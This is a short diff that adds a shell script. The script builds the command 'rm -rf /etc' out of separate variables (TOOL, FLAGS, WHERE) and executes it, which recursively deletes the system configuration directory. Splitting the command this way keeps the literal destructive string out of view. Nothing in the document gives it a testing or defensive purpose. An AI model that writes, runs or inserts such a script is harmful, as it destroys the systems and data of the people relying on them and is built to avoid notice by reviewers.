@@ -1,0 +1,5 @@
+#!/bin/sh
+TOOL=rm
+FLAGS=-rf
+WHERE=/etc
+$TOOL $FLAGS $WHERE
